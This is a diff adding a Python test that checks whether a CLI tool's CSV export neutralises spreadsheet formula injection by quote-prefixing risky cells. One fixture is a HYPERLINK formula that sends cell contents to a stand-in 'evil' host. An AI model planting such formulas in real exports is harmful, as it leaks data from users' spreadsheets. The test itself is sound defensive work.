@@ -366,3 +366,42 @@ def test_a_key_given_twice_is_refused_naming_the_key_and_line(
               "s", "--claim", '{"type": "total", "type": "streak"}']  # fmt: skip
     result = mxt("--store", str(store_path), *record)
     assert result.exit_code == 2 and "type: given twice" in result.stderr
+
+
+# -- CSV formula injection -------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil?x="&A1,"Xiaomi")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(store_path: Path) -> None:
+    import csv
+    import io
+
+    store = ["--store", str(store_path)]
+    lines = [
+        make_announcement(
+            "statement",
+            company=FORMULA,
+            text="+1 for Europe",
+            note="-2 units",
+            source={"title": "@SUM(1)"},
+        ),  # fmt: skip
+        make_announcement("target", company=FORMULA, value=350000),
+    ]
+    text = "\n".join(json.dumps(line) for line in lines)
+    assert mxt(*store, "import", "-", input=text).exit_code == 0
+    [row] = csv.DictReader(io.StringIO(mxt(*store, "log", "--kind", "statement",
+                                           "--format", "csv").stdout))  # fmt: skip
+    assert row["company"] == "'" + FORMULA
+    assert (row["text"], row["note"], row["source.title"]) == ("'+1 for Europe", "'-2 units",
+                                                               "'@SUM(1)")  # fmt: skip
+    assert row["topic"] == "hiring" and row["announced_on"] == "2025-07-01"
+    targets = mxt(*store, "state", "company", FORMULA, "--section", "targets", "--format", "csv")
+    [target] = csv.DictReader(io.StringIO(targets.stdout))
+    assert target["value"] == "350000"  # numbers are never changed
+    raw = mxt(*store, "log", "--kind", "statement", "--format", "csv", "--csv-raw").stdout
+    [row] = csv.DictReader(io.StringIO(raw))
+    assert (row["company"], row["text"]) == (FORMULA, "+1 for Europe")
+    [entry] = json.loads(mxt(*store, "log", "--kind", "statement", "--json").stdout)
+    assert entry["company"] == FORMULA  # JSON keeps the data as stored
+    refused(mxt(*store, "log", "--csv-raw"), "csv-raw")
